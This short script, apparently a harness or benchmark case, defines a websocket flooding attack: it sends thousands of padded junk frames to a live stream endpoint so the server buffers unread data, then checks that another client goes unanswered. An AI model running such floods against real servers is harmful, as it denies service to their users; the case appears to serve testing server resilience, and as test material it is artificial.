# aim: have the server hold what nobody reads
# mechanism: very many messages whose answers are not read
# server: websocket, streams
# plain: naive

def attack():
    with websocket(f"{here}/live", mine.key) as live:
        live.until(b"ready")
        live.flood(frame(b'{"type": "nothing", "x": "' + b"x" * 100 + b'"}') * 2_000, 60)
        return not victim_is_served() and "others are not answered"


judge(attack)
